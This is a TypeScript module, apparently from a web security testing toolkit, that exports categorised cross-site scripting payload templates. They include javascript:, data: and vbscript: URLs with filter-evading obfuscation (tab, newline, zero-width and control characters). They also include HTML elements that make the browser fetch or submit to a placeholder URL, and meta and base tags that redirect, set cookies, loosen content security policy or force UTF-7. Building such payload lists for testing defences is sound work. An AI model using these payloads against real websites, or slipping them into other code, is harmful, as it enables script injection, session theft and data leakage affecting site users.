import type { Payloads } from './payloads.ts'

/** Texts that act as a URL, and elements that fetch or navigate. */
export const ADDRESSES: Payloads = {
  'javascript: URLs': [
    'javascript:%run%',
    'JaVaScRiPt:%run%',
    ' javascript:%run%',
    '\u0001javascript:%run%',
    'java\tscript:%run%',
    'java\nscript:%run%',
    'javascript://https://shop.example/%0a%run%',
    'javascript:\u2028%run%',
    'javascript\u200B:%run%',
  ],
  'data: and vbscript: URLs': [
    'data:text/html,<script>%run%</script>',
    'data:text/html;charset=utf-7,<script>%run%</script>',
    'data:text/html,<meta http-equiv=refresh content="0;url=https:%url%">',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="%run%"/>',
    'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>%run%</script></html>',
    'da\nta:text/html,<script>%run%</script>',
    'vbscript:%run%',
    'blob:https://shop.example/%id%',
  ],
  'fetching attributes': [
    '<img src="%url%">',
    '<img srcset="%url% 1x">',
    '<video poster="%url%"></video>',
    '<body background="%url%">',
    '<object data="%url%"></object>',
    '<iframe srcdoc="<img src=%url%>"></iframe>',
    '<link rel=stylesheet href="%url%">',
    '<a href=about:blank ping="%url%" id=p>x</a><style onload="p.click()"></style>',
    '<form action="%url%" id=f></form><style onload="f.submit()"></style>',
    '"><img src="%url%',
    '<a href="%url%">x</a>',
    '<html manifest="%url%">',
    '%url%',
    'https:%url%',
  ],
  'meta and base': [
    // Runs only in a frame, because browsers do not navigate a top-level document to `data:`.
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>%run%</script>">',
    '<meta http-equiv=refresh content="0;url=%url%">',
    '<base href="https:%url%"><img src=x>',
    '"><meta http-equiv=refresh content="0;url=%url%',
    '<meta http-equiv=Set-Cookie content="language=%id%">',
    '<meta http-equiv=content-security-policy content="default-src *">',
    '<meta charset=utf-7>+ADw-script+AD4-%run%+ADw-/script+AD4-',
  ],
}
